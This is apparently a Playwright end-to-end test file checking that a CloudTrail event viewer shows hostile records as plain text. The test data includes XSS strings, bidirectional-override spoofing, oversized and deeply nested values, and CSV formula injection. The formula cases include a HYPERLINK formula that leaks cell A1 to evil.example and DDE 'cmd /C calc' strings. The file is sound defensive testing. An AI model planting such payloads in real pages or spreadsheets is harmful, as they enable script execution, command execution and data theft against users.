import { readFile } from "node:fs/promises";

import { type Locator, type Page } from "@playwright/test";

import { HOSTILE_REGION, hostileWindow } from "./support/hostile-records";
import { parseCsv } from "./support/parse-csv";
import { expect, test } from "./support/test";

/**
 * Event records are written by whoever calls AWS, attackers included. The end-to-end
 * server's store holds the synthetic records of test/fixtures/hostile-records.json (planted
 * by e2e/support/plant-hostile-records.ts): script tags and event-handler attributes in
 * every field a caller controls, javascript: and data: URLs, 200,000 characters in one
 * value and 10,000 without a break, 5,000 levels of nesting, and bidirectional overrides
 * and other hidden characters. Every view of them must draw them as text, stay usable, and
 * show what is really there.
 */

const ID = {
  markup: "0b5e55ed-0000-4000-8000-000000000001",
  urls: "0b5e55ed-0000-4000-8000-000000000002",
  bidi: "0b5e55ed-0000-4000-8000-000000000003",
  long: "0b5e55ed-0000-4000-8000-000000000004",
  deep: "0b5e55ed-0000-4000-8000-000000000005",
  formulas: "0b5e55ed-0000-4000-8000-000000000006",
  bidiName: "0b5e55ed-0000-4000-8000-000000000007",
};
const TOKEN = "A1b2C3d4E5f6G7h8".repeat(625);
/** Every hostile record has "HOSTILE" in its access key ID, and no seeded event has it. */
const ONLY_HOSTILE = "f=text:HOSTILE";

function view(path: "/" | "/events", extra = ""): string {
  const { from, to } = hostileWindow();
  return `${path}?regions=${HOSTILE_REGION}&from=${from}&to=${to}&${ONLY_HOSTILE}${extra}`;
}

/** Characters that must never be drawn as themselves (see lib/format/visible-text.ts). */
const RAW_HIDDEN =
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u00A0\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u2069\u2028\u2029\uFEFF]|\uDB40[\uDC00-\uDC7F]/;

let pwned: string[];
let dialogs: string[];

test.beforeEach(async ({ page }) => {
  pwned = [];
  dialogs = [];
  // Every payload calls window.__pwned (or alert): reaching it means a record ran as script.
  await page.exposeFunction("__pwned", (what: unknown) => {
    pwned.push(String(what));
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Elements made from a record's markup, even ones removed at once, are noted as they appear.
  await page.addInitScript(() => {
    const made: string[] = [];
    Object.defineProperty(window, "__hostileNodes", { value: made });
    const suspicious = (node: Node) =>
      node instanceof Element &&
      (/^(img|iframe|object|embed|marquee|frame)$/i.test(node.tagName) ||
        [...node.attributes].some((attribute) => /^on/i.test(attribute.name)));
    new MutationObserver((records) => {
      for (const record of records) {
        for (const node of record.addedNodes) {
          if (suspicious(node)) made.push((node as Element).outerHTML.slice(0, 120));
          if (node instanceof Element) {
            for (const inner of node.querySelectorAll("*")) {
              if (suspicious(inner)) made.push(inner.outerHTML.slice(0, 120));
            }
          }
        }
      }
    }).observe(document, { childList: true, subtree: true });
  });
});

/**
 * Nothing in the page came from a record's markup: no payload ran, no dialog opened, no
 * element or event-handler attribute was made from it, no link or source is a script URL,
 * no script other than Next.js's own (its files, and inline scripts that hold the page's
 * data as JSON strings), and no hidden character is drawn raw.
 */
async function expectHarmless(page: Page) {
  const found = await page.evaluate((rawHidden) => {
    const hidden = new RegExp(rawHidden);
    const problems: string[] = [];
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) problems.push(`<${element.tagName} ${name}>`);
        // Titles and labels too show hidden characters by their codes; a link is not drawn.
        if (name !== "href" && hidden.test(value)) problems.push(`<${element.tagName} ${name}>`);
        if (
          /^(href|src|action|formaction|xlink:href|srcdoc|data)$/i.test(name) &&
          /^\s*(javascript|data|vbscript):/i.test(value)
        ) {
          problems.push(`<${element.tagName} ${name}="${value.slice(0, 60)}">`);
        }
      }
    }
    for (const element of document.querySelectorAll("img, iframe, object, embed, marquee, frame")) {
      problems.push(element.outerHTML.slice(0, 120));
    }
    for (const script of document.scripts) {
      const text = script.textContent?.trim() ?? "";
      const nextFile = script.src !== "" && new URL(script.src).pathname.startsWith("/_next/");
      if (script.src !== "" && !nextFile) problems.push(`<script src="${script.src}">`);
      if (/^(window\.|parent\.|alert\(|__pwned)/.test(text)) problems.push(`<script>${text}`);
    }
    const made = (window as unknown as { __hostileNodes: string[] }).__hostileNodes;
    return { problems, made, text: document.body.innerText };
  }, RAW_HIDDEN.source);
  expect(found.problems).toEqual([]);
  expect(found.made).toEqual([]);
  expect(pwned).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(found.text).not.toMatch(RAW_HIDDEN);
}

function rows(page: Page): Locator {
  return page.getByRole("table", { name: /^Events/ }).locator("tbody tr[aria-rowindex]");
}

function row(page: Page, id: string): Locator {
  return rows(page).filter({ has: page.locator(`a[href*="${id}"]`) });
}

async function eventsLoaded(page: Page) {
  await page.goto(
    view(
      "/events",
      "&cols=eventTime,eventName,username,sourceIPAddress,errorCode,resources,userAgent,userIdentity.arn",
    ),
  );
  await expect(
    page.getByRole("status").filter({ hasText: /^7 matches in [\d,]+ events? scanned/ }),
  ).toBeVisible({ timeout: 30_000 });
  await expect(rows(page)).toHaveCount(7);
}

test("the Events table draws hostile records as text, one short line each", async ({ page }) => {
  await eventsLoaded(page);
  await expectHarmless(page);

  const markup = row(page, ID.markup);
  await expect(markup).toContainText(`<img src=x onerror="window.__pwned('eventName')">`);
  await expect(markup).toContainText("<script>window.__pwned('userName')</script>");
  await expect(row(page, ID.bidi)).toContainText("admin⟨U+202E⟩gnp.exe");
  await expect(row(page, ID.bidiName)).toContainText(
    "DeleteBucket⟨U+202E⟩⟨U+2066⟩gnp.tnemhcatta⟨U+2069⟩",
  );
  await expect(row(page, ID.bidiName)).toContainText("mallory⟨U+200B⟩");

  // The 10,000-character name and the 200,000-character user agent stay in their cells.
  const long = row(page, ID.long);
  await expect(long).toHaveAttribute("style", /height: ?36px/);
  const layout = await long.evaluate((tr) => ({
    row: tr.getBoundingClientRect().height,
    cells: [...tr.querySelectorAll("td")].map((td) => ({
      width: td.getBoundingClientRect().width,
      scroll: td.scrollWidth,
      text: td.textContent?.length ?? 0,
    })),
  }));
  expect(layout.row).toBeLessThan(40);
  for (const cell of layout.cells) expect(cell.text).toBeLessThan(400);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
    page.viewportSize()!.width,
  );

  // Still a table one can sort and walk with the keyboard.
  await page
    .getByRole("columnheader", { name: "User name", exact: true })
    .getByRole("button", { name: "User name", exact: true })
    .click();
  await expect(page).toHaveURL(/sort=username/);
  await expect(rows(page)).toHaveCount(7);
  await expectHarmless(page);
});

test("the detail sheet shows hostile values marked, and long ones in full on request", async ({
  page,
}) => {
  await eventsLoaded(page);

  await row(page, ID.bidi).getByRole("cell").nth(1).click();
  const sheet = page.getByRole("dialog");
  await expect(sheet.getByRole("heading", { name: "StopLogging" })).toBeVisible();
  await expect(sheet).toContainText("admin⟨U+202E⟩gnp.exe");
  await expect(sheet.getByText("CloudTrail logging tampered with")).toBeVisible();
  await expectHarmless(page);
  await page.keyboard.press("Escape");

  await row(page, ID.long).getByRole("cell").nth(1).click();
  await expect(sheet.getByRole("heading", { name: "PutBucketTagging" })).toBeVisible();
  const userAgent = sheet
    .locator("dt")
    .filter({ hasText: /^User agent$/ })
    .locator("xpath=following-sibling::dd[1]");
  const showAll = userAgent.getByRole("button", { name: "Show all 200,000 characters" });
  await expect(showAll).toBeVisible();
  expect((await userAgent.textContent())!.length).toBeLessThan(1_100);
  await showAll.click();
  await expect(userAgent.getByRole("button", { name: "Show less" })).toBeVisible();
  const expanded = userAgent.locator("bdi");
  expect(((await expanded.textContent()) ?? "").length).toBe(200_000);
  // All of it, in a box of its own height: the rest of the sheet stays in reach.
  expect((await expanded.boundingBox())!.height).toBeLessThan(320);
  await expect(sheet.getByRole("heading", { name: "Full record" })).toBeVisible();
  const sheetBox = (await sheet.boundingBox())!;
  const wide = await sheet.evaluate((element) => element.scrollWidth - element.clientWidth);
  expect(wide).toBeLessThanOrEqual(1);
  expect(sheetBox.width).toBeLessThanOrEqual(page.viewportSize()!.width);
  await expectHarmless(page);
});

test.describe("an event's own page", () => {
  test.use({ permissions: ["clipboard-read", "clipboard-write"] });

  test("draws markup as text and links nowhere but the app", async ({ page }) => {
    for (const id of [ID.markup, ID.urls, ID.formulas]) {
      await page.goto(`/events/${HOSTILE_REGION}/${id}`);
      await expect(page.getByRole("region", { name: "Full record" })).toBeVisible();
      await expectHarmless(page);
      for (const href of await page
        .locator("a[href]")
        .evaluateAll((links) => links.map((link) => link.getAttribute("href")!))) {
        expect(href, href).toMatch(/^(\/|https:\/\/|#)/);
      }
    }
    await page.goto(`/events/${HOSTILE_REGION}/${ID.markup}`);
    await expect(page.getByRole("region", { name: "Request parameters" })).toContainText(
      `"<img src=x onerror=window.__pwned('requestKey')>": "<script>window.__pwned('requestValue')</script>"`,
    );
    await expect(page.locator("p", { hasText: "The call failed" })).toContainText(
      "<b onmouseover=window.__pwned('errorCode')>AccessDenied</b>",
    );
    // The pivots hold the record's values as conditions, inside the app's own URLs.
    const related = page.getByRole("region", { name: "Related activity" });
    await expect(related.getByRole("link", { name: /Same user/ })).toHaveAttribute(
      "href",
      /^\/events\?/,
    );
  });

  test("shows hidden characters by their codes, and the record's JSON with escapes", async ({
    page,
  }) => {
    await page.goto(`/events/${HOSTILE_REGION}/${ID.bidi}`);
    await expect(page.getByRole("heading", { level: 1, name: "StopLogging" })).toBeVisible();
    await expectHarmless(page);
    const who = page.getByRole("region", { name: "Who" });
    await expect(who).toContainText("admin⟨U+202E⟩gnp.exe");
    await expect(who).toContainText("198.51.100.23⟨U+200B⟩");
    await expect(who).toContainText("aws-cli/2.15.0 ⟨U+2066⟩⟨U+202E⟩txt.exe⟨U+2069⟩ Python/3.11.6");
    const parameters = page.getByRole("region", { name: "Request parameters" });
    await expect(parameters).toContainText(
      '"comment\\u202e": "/* \\u202e } \\u2066if (isAdmin)\\u2069',
    );
    await expect(parameters).toContainText('"tags": "\\udb40\\udc49\\udb40\\udc67');
    await expect(page.getByRole("region", { name: "Resources" })).toContainText(
      "management-events⟨U+202E⟩txt.exe",
    );

    // Copy gives the JSON the page shows: the same values, nothing to reorder a terminal.
    const record = page.getByRole("region", { name: "Full record" });
    await record.getByRole("button", { name: "Copy" }).click();
    await expect(record.getByRole("button", { name: "Copied" })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).not.toMatch(RAW_HIDDEN);
    expect(copied).toBe(
      await record.getByLabel("The event's CloudTrail record as JSON").textContent(),
    );
    const parsed = JSON.parse(copied) as { userIdentity: { userName: string } };
    expect(parsed.userIdentity.userName).toBe("admin\u202Egnp.exe");
  });

  test("cuts what is too long or too deep to draw, and copies it whole", async ({ page }) => {
    await page.goto(`/events/${HOSTILE_REGION}/${ID.long}`);
    await expectHarmless(page);
    const full = page.getByRole("region", { name: "Full record" });
    await expect(full).toContainText("167,232 more characters not shown");
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      page.viewportSize()!.width,
    );
    await full.getByRole("button", { name: "Copy" }).click();
    await expect(full.getByRole("button", { name: "Copied" })).toBeVisible();
    const longRecord = JSON.parse(await page.evaluate(() => navigator.clipboard.readText())) as {
      userAgent: string;
      userIdentity: { userName: string };
    };
    expect(longRecord.userAgent).toHaveLength(200_000);
    expect(longRecord.userIdentity.userName).toBe(TOKEN);

    await page.goto(`/events/${HOSTILE_REGION}/${ID.deep}`);
    await expectHarmless(page);
    for (const name of ["Request parameters", "Full record"]) {
      await expect(page.getByRole("region", { name })).toContainText(
        "nested more than 32 levels deep: not shown",
      );
    }
    const deep = page.getByRole("region", { name: "Full record" });
    await deep.getByRole("button", { name: "Copy" }).click();
    await expect(deep.getByRole("button", { name: "Copied" })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    let node = (
      JSON.parse(copied) as { requestParameters: { policy: { Statement: { Condition: unknown } } } }
    ).requestParameters.policy.Statement.Condition;
    for (let level = 0; level < 5_000; level++) node = (node as { a: unknown }).a;
    expect(node).toBe("bottom");
  });
});

test("compare lines hostile records up, the too-deep part marked as such", async ({ page }) => {
  const refs = [ID.markup, ID.bidi, ID.long, ID.deep, ID.bidiName];
  await page.goto(`/events/compare?${refs.map((id) => `e=${HOSTILE_REGION}:${id}`).join("&")}`);
  const table = page.getByRole("table", { name: /Fields of 5 events side by side/ });
  await expect(table).toBeVisible();
  await expectHarmless(page);
  await expect(table.getByRole("columnheader").nth(1)).toContainText(
    `<img src=x onerror="window.__pwned('eventName')">`,
  );
  await expect(table.getByRole("columnheader").nth(5)).toContainText("DeleteBucket⟨U+202E⟩");
  const tooDeep = table.getByRole("row").filter({ hasText: "⟨nested too deeply to show⟩" });
  await expect(tooDeep).toHaveCount(1);
  await expect(tooDeep).toHaveAttribute("data-differs", "true");
  await expect(
    table.getByRole("button", { name: "Show all 10,000 characters" }).first(),
  ).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
    page.viewportSize()!.width,
  );
});

test("the Overview's charts, tooltip, top lists and findings draw hostile values as text", async ({
  page,
}) => {
  await page.goto(view("/", "&by=user"));
  await expect(
    page.getByRole("status").filter({ hasText: /^7 events in this view, of [\d,]+ events? read/ }),
  ).toBeVisible({ timeout: 45_000 });
  await expectHarmless(page);

  const users = page.getByRole("figure", { name: "Top users" });
  await expect(users).toContainText("admin⟨U+202E⟩gnp.exe");
  await expect(users).toContainText("<script>window.__pwned('userName')</script>");
  const findings = page.getByRole("region", { name: "Findings" });
  await expect(
    findings.getByRole("listitem", { name: "CloudTrail logging tampered with" }),
  ).toContainText("admin⟨U+202E⟩gnp.exe");

  // All seven fell in one ten-second bar: its tooltip names each user, marked and cut.
  const bars = page.getByTestId("activity-chart").locator(".recharts-bar-rectangle path");
  await expect(bars.first()).toBeVisible();
  const heights = await bars.evaluateAll((paths) =>
    paths.map((path) => path.getBoundingClientRect().height),
  );
  await bars.nth(heights.indexOf(Math.max(...heights))).hover();
  const tooltip = page.locator(".recharts-tooltip-wrapper");
  await expect(tooltip).toContainText("admin⟨U+202E⟩gnp.exe");
  await expect(tooltip).toContainText("mallory⟨U+200B⟩");
  await expect(tooltip).toContainText("<script>window.__pwned('userName')</script>");
  await expect(tooltip).toContainText(`${TOKEN.slice(0, 100)}…`);
  expect((await tooltip.boundingBox())!.width).toBeLessThanOrEqual(330);
  await expectHarmless(page);
});

async function download(page: Page, item: string): Promise<string> {
  await page.getByRole("button", { name: "Export", exact: true }).click();
  const [file] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("menuitem", { name: item }).click(),
  ]);
  expect(file.suggestedFilename()).toMatch(/^trailscope-events-[\dT-]+Z\.(csv|json)$/);
  return readFile((await file.path())!, "utf8");
}

test("exports defuse formulas in CSV and stay valid JSON, whole", async ({ page }) => {
  await page.goto(view("/events"));
  await expect(rows(page)).toHaveCount(7, { timeout: 30_000 });

  const csv = parseCsv((await download(page, "CSV")).replace(/^\uFEFF/, ""));
  expect(csv[0]).toEqual([
    "Time",
    "Event name",
    "User name",
    "Event source",
    "Region",
    "Source IP",
    "Error",
    "Resources",
  ]);
  expect(csv).toHaveLength(8);
  const formulas = csv.find((cells) => cells[1].includes("HYPERLINK"))!;
  expect(formulas.slice(1, 7)).toEqual([
    `'=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`,
    "'+cmd|' /C calc'!A0",
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    HOSTILE_REGION,
    "'-2+3+cmd|' /C calc'!A0",
    "'\t=1+1",
  ]);
  // No cell of any row starts a formula.
  for (const cells of csv.slice(1)) {
    for (const cell of cells) expect(cell, cell.slice(0, 40)).not.toMatch(/^[=+\-@\t\r\0]/);
  }
  expect(csv.find((cells) => cells[2].startsWith("<script>"))).toBeDefined();

  const json = await download(page, "JSON (CloudTrail Records)");
  expect(json).not.toMatch(RAW_HIDDEN);
  const { Records } = JSON.parse(json) as { Records: Record<string, unknown>[] };
  expect(Records.map((record) => record.eventID).sort()).toEqual(Object.values(ID).sort());
  const bidi = Records.find((record) => record.eventID === ID.bidi)!;
  expect((bidi.userIdentity as { userName: string }).userName).toBe("admin\u202Egnp.exe");
  // The record nested 5,000 levels deep is exported whole.
  const deep = Records.find((record) => record.eventID === ID.deep)!;
  let node = (deep.requestParameters as { policy: { Statement: { Condition: unknown } } }).policy
    .Statement.Condition;
  for (let level = 0; level < 5_000; level++) node = (node as { a: unknown }).a;
  expect(node).toBe("bottom");
  await expectHarmless(page);
});
